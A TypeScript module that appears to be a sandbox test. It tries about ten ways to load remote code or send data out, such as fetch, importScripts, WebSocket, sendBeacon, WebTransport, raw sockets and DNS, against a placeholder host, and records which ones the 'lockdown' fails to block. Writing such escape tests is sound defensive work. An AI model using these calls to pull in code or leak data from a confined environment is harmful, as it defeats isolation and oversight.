/*
tries: fetch code while it runs, by every name for it
harm: sends
stopped by: lockdown
steps:
  - {call: attack, answers: [], process: same}
*/
export class Module {
  async attack() {
    const ways: Record<string, () => unknown> = {
      fetch: () => fetch("http://127.0.0.1:OUTSIDE_PORT/x.js"),
      socket: () => new WebSocket("ws://127.0.0.1:OUTSIDE_PORT"),
      events: () => new EventSource("http://127.0.0.1:OUTSIDE_PORT"),
      connect: () => Deno.connect({ hostname: "127.0.0.1", port: 1 }),
      scripts: () => (globalThis as any).importScripts("http://127.0.0.1:OUTSIDE_PORT/x.js"),
      beacon: () => navigator.sendBeacon("http://127.0.0.1:OUTSIDE_PORT/"),
      stream: () => new (globalThis as any).WebSocketStream("ws://127.0.0.1:OUTSIDE_PORT"),
      transport: () => new (globalThis as any).WebTransport("https://127.0.0.1:OUTSIDE_PORT"),
      datagram: () => (Deno as any).listenDatagram({ port: 0, transport: "udp" }),
      dns: () => Deno.resolveDns("example.com", "A"),
    };
    const passed = [];
    for (const [name, way] of Object.entries(ways)) {
      try {
        if (await way() !== undefined) passed.push(name);
      } catch { /* refused */ }
    }
    return passed;
  }
}
